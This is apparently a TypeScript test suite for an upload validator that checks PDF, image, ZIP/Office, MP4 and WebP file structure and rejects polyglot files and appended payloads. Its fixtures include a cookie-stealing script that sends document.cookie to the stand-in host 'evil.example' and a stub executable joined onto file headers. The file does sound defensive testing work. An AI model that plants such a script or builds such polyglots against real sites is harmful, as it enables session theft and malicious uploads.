import jpeg from 'jpeg-js';
import { describe, expect, it } from 'vitest';
import { checkBytes, STRUCTURE_OF } from './file-decoding';
import { checkMp4Structure, checkPdfContainer, checkWebpStructure, checkZipStructure, readZipDirectory, type RangeReader } from './file-structure';
import { mp4Box, sampleDocx, sampleMp4, samplePptx, sampleWebp, sampleZip } from './sample-files';
import { samplePdf } from './sample-pdf';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const HTML = latin1('<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>\n');
const EXE = Buffer.concat([latin1('MZ'), Buffer.alloc(58), latin1('This program cannot be run in DOS mode.\r\n'), Buffer.alloc(64, 0x90)]);
/** The polyglot: a PDF head, then HTML, then an executable. */
const PDF_POLYGLOT = Buffer.concat([latin1('%PDF-1.7\n'), HTML, EXE]);

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const JPEG = Buffer.from(jpeg.encode({ data: Buffer.alloc(8 * 8 * 4, 0x80), width: 8, height: 8 }, 80).data);

/** A ranged reader over bytes in memory that counts what it read. */
function reader(bytes: Buffer): RangeReader & { read: number } {
  const read = Object.assign(
    async (offset: number, length: number) => {
      read.read += Math.min(length, bytes.length - offset);
      return bytes.subarray(offset, offset + length);
    },
    { read: 0 },
  );
  return read;
}
const mp4 = (bytes: Buffer) => checkMp4Structure(bytes.length, reader(bytes));

describe('PDF', () => {
  it('accepts a real PDF', async () => {
    expect(checkPdfContainer(samplePdf())).toEqual({ ok: true });
    expect(await checkBytes('pdf', samplePdf())).toEqual({ ok: true });
  });
  it('refuses the %PDF- + HTML + MZ polyglot', async () => {
    expect(checkPdfContainer(PDF_POLYGLOT)).toEqual({ ok: false, problem: 'no-eof' });
    expect((await checkBytes('pdf', PDF_POLYGLOT)).ok).toBe(false);
  });
  it('refuses HTML in front of the objects, and anything appended after %%EOF', async () => {
    const pdf = samplePdf();
    const withHtml = Buffer.concat([latin1('%PDF-1.4\n'), HTML, pdf.subarray(9)]);
    expect(checkPdfContainer(withHtml)).toEqual({ ok: false, problem: 'embedded-markup' });
    expect(checkPdfContainer(Buffer.concat([pdf, EXE]))).toEqual({ ok: false, problem: 'trailing-bytes' });
    expect((await checkBytes('pdf', Buffer.concat([pdf, HTML]))).ok).toBe(false);
  });
  it('refuses a PDF-looking file that does not parse', async () => {
    const fake = latin1('%PDF-1.4\n1 0 obj\n<< >>\nendobj\nstartxref\n0\n%%EOF\n');
    expect(checkPdfContainer(fake)).toEqual({ ok: true });
    expect((await checkBytes('pdf', fake)).ok).toBe(false);
  });
});

describe('images', () => {
  it('decodes real PNG, JPEG and GIF', async () => {
    expect(await checkBytes('png', PNG)).toEqual({ ok: true });
    expect(await checkBytes('jpeg', JPEG)).toEqual({ ok: true });
    expect(await checkBytes('gif', GIF)).toEqual({ ok: true });
  });
  it('refuses an image head followed by HTML or an executable', async () => {
    expect(await checkBytes('png', Buffer.concat([PNG.subarray(0, 16), HTML]))).toMatchObject({ ok: false });
    expect(await checkBytes('png', Buffer.concat([PNG, HTML, EXE]))).toMatchObject({ ok: false });
    expect(await checkBytes('jpeg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML, EXE]))).toMatchObject({ ok: false });
    expect(await checkBytes('jpeg', Buffer.concat([JPEG, EXE]))).toMatchObject({ ok: false });
    expect(await checkBytes('gif', Buffer.concat([latin1('GIF89a'), HTML]))).toMatchObject({ ok: false });
    expect(await checkBytes('gif', Buffer.concat([GIF, HTML]))).toMatchObject({ ok: false });
  });
  it('refuses a PNG whose chunk CRC is wrong', async () => {
    const broken = Buffer.from(PNG);
    broken[broken.length - 20]! ^= 0xff;
    expect(await checkBytes('png', broken)).toMatchObject({ ok: false });
  });
});

describe('ZIP, DOCX and PPTX', () => {
  it('accepts consistent archives with their Office parts', () => {
    expect(checkZipStructure(sampleZip({ 'a.txt': 'hello' }), 'zip')).toEqual({ ok: true });
    expect(checkZipStructure(sampleDocx(), 'docx')).toEqual({ ok: true });
    expect(checkZipStructure(samplePptx(), 'pptx')).toEqual({ ok: true });
    expect(readZipDirectory(sampleDocx())).toMatchObject({ ok: true, entries: [{ name: '[Content_Types].xml' }, { name: '_rels/.rels' }, { name: 'word/document.xml' }] });
  });
  it('refuses a DOCX without its parts, and a PPTX that is a DOCX', () => {
    expect(checkZipStructure(sampleZip({ 'word/document.xml': '<w/>' }), 'docx')).toEqual({ ok: false, problem: 'no-content-types' });
    expect(checkZipStructure(sampleZip({ '[Content_Types].xml': '<Types/>' }), 'docx')).toEqual({ ok: false, problem: 'no-word-part' });
    expect(checkZipStructure(sampleDocx(), 'pptx')).toEqual({ ok: false, problem: 'no-ppt-part' });
  });
  it('refuses a zip head followed by HTML, and bytes before or after the archive', () => {
    expect(checkZipStructure(Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), HTML, EXE]), 'zip')).toEqual({ ok: false, problem: 'no-end-record' });
    expect(checkZipStructure(Buffer.concat([sampleDocx(), EXE]), 'docx')).toEqual({ ok: false, problem: 'no-end-record' });
    expect(checkZipStructure(Buffer.concat([EXE, sampleZip({ 'a.txt': 'x' })]), 'zip')).toMatchObject({ ok: false });
  });
  it('refuses a directory that does not match its end record', () => {
    const zip = sampleZip({ 'a.txt': 'hello', 'b.txt': 'world' });
    const fewer = Buffer.from(zip);
    fewer.writeUInt16LE(1, zip.length - 22 + 8);
    fewer.writeUInt16LE(1, zip.length - 22 + 10);
    expect(checkZipStructure(fewer, 'zip')).toEqual({ ok: false, problem: 'directory-mismatch' });
    const moved = Buffer.from(zip);
    moved.writeUInt32LE(zip.readUInt32LE(zip.length - 6) + 1, zip.length - 6);
    expect(checkZipStructure(moved, 'zip')).toMatchObject({ ok: false });
  });
});

describe('MP4 boxes', () => {
  it('accepts ftyp, moov and mdat to the end of the file, reading only box headers', async () => {
    const video = Buffer.concat([sampleMp4(), mp4Box('mdat', Buffer.alloc(100_000))]);
    const read = reader(video);
    expect(await checkMp4Structure(video.length, read)).toEqual({ ok: true });
    expect(read.read).toBeLessThanOrEqual(16 * 4);
  });
  it('accepts a 64-bit box size and a last box that runs to the end', async () => {
    const large = Buffer.alloc(16);
    large.writeUInt32BE(1, 0);
    large.write('mdat', 4, 'latin1');
    large.writeUInt32BE(0, 8);
    large.writeUInt32BE(16 + 10, 12);
    expect(await mp4(Buffer.concat([sampleMp4(), large, Buffer.alloc(10)]))).toEqual({ ok: true });
    const toEnd = Buffer.concat([mp4Box('mdat'), Buffer.alloc(50)]);
    toEnd.writeUInt32BE(0, 0);
    expect(await mp4(Buffer.concat([sampleMp4(), toEnd]))).toEqual({ ok: true });
  });
  it('refuses an ftyp head followed by HTML and an executable', async () => {
    const polyglot = Buffer.concat([sampleMp4().subarray(0, 24), HTML, EXE]);
    expect((await mp4(polyglot)).ok).toBe(false);
  });
  it('refuses files without moov, not starting with ftyp, with bad sizes or trailing bytes', async () => {
    const [ftyp, moov] = [sampleMp4().subarray(0, 24), mp4Box('moov')];
    expect(await mp4(Buffer.concat([ftyp, mp4Box('free')]))).toEqual({ ok: false, problem: 'no-moov' });
    expect(await mp4(Buffer.concat([moov, ftyp]))).toEqual({ ok: false, problem: 'no-ftyp' });
    expect(await mp4(Buffer.concat([ftyp, moov, Buffer.from([0, 0, 0, 4]), latin1('free')]))).toEqual({ ok: false, problem: 'bad-box-size' });
    expect(await mp4(Buffer.concat([ftyp, moov, latin1('abc')]))).toEqual({ ok: false, problem: 'trailing-bytes' });
    const tooLong = Buffer.concat([ftyp, moov, mp4Box('mdat', Buffer.alloc(10))]);
    tooLong.writeUInt32BE(1000, tooLong.length - 18);
    expect(await mp4(tooLong)).toEqual({ ok: false, problem: 'bad-box-size' });
    expect(await mp4(Buffer.concat([ftyp, moov, Buffer.from([0, 0, 0, 8, 0, 1, 2, 3])]))).toEqual({ ok: false, problem: 'bad-box-type' });
    expect(await mp4(Buffer.alloc(0))).toEqual({ ok: false, problem: 'empty' });
  });
});

describe('checkWebpStructure', () => {
  const WEBP = sampleWebp();
  /** A RIFF WEBP file around these chunks, with a correct RIFF size. */
  const riff = (...chunks: Buffer[]) => {
    const body = Buffer.concat([latin1('WEBP'), ...chunks]);
    const header = Buffer.concat([latin1('RIFF'), Buffer.alloc(4)]);
    header.writeUInt32LE(body.length, 4);
    return Buffer.concat([header, body]);
  };
  const chunk = (type: string, body: Buffer) => {
    const head = Buffer.concat([latin1(type), Buffer.alloc(4)]);
    head.writeUInt32LE(body.length, 4);
    return Buffer.concat([head, body, Buffer.alloc(body.length % 2)]);
  };

  it('accepts a real WebP, also through checkBytes', async () => {
    expect(checkWebpStructure(WEBP)).toEqual({ ok: true });
    expect(await checkBytes('webp', WEBP)).toEqual({ ok: true });
  });

  it('accepts a lossy key frame with its start code and an extended header first', () => {
    const vp8 = Buffer.from([0x50, 0x01, 0x00, 0x9d, 0x01, 0x2a, 0x10, 0x00, 0x10, 0x00, 0, 0]);
    expect(checkWebpStructure(riff(chunk('VP8 ', vp8)))).toEqual({ ok: true });
    expect(checkWebpStructure(riff(chunk('VP8X', Buffer.alloc(10)), chunk('VP8 ', vp8)))).toEqual({ ok: true });
    expect(checkWebpStructure(riff(chunk('VP8 ', Buffer.from([0, 0, 0, 1, 2, 3, 16, 0, 16, 0]))))).toEqual({ ok: false, problem: 'bad-vp8' });
  });

  it('refuses appended payloads, wrong sizes, missing image chunks and bad headers', () => {
    expect(checkWebpStructure(Buffer.concat([WEBP, HTML]))).toEqual({ ok: false, problem: 'riff-size-mismatch' });
    const grown = riff(chunk('VP8L', WEBP.subarray(20, 33)), HTML);
    expect(checkWebpStructure(grown)).toMatchObject({ ok: false });
    expect(checkWebpStructure(riff(chunk('EXIF', Buffer.alloc(4))))).toEqual({ ok: false, problem: 'no-image-chunk' });
    expect(checkWebpStructure(riff(chunk('VP8L', Buffer.from([0x2e, 0, 0, 0, 0]))))).toEqual({ ok: false, problem: 'bad-vp8l' });
    expect(checkWebpStructure(Buffer.concat([latin1('RIFX'), WEBP.subarray(4)]))).toEqual({ ok: false, problem: 'bad-header' });
    const huge = riff(chunk('VP8L', Buffer.from([0x2f, 0xff, 0xff, 0xff, 0x0f])));
    expect(checkWebpStructure(huge)).toEqual({ ok: false, problem: 'too-many-pixels' });
    const cut = Buffer.from(WEBP.subarray(0, 30));
    cut.writeUInt32LE(cut.length - 8, 4);
    expect(checkWebpStructure(cut)).toEqual({ ok: false, problem: 'bad-chunk-size' });
  });
});

describe('STRUCTURE_OF', () => {
  it('has a structure for every type we accept', () => {
    expect(Object.keys(STRUCTURE_OF).sort()).toEqual([
      'application/pdf', 'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'application/zip',
      'image/gif', 'image/jpeg', 'image/png', 'image/webp', 'video/mp4',
    ]);
  });
});
